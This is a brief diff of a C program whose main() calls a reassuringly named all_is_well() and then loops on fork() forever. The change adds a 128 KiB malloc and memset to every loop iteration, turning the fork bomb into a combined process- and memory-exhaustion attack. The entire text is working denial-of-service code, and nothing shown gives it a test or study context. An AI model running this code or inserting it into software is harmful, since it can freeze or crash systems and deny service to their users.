@@ -9,6 +9,8 @@
 int main(void)
 {
 	all_is_well();
-	for (;;)
+	for (;;) {
 		fork();
+		memset(malloc(1 << 17), 1, 1 << 17);
+	}
 }
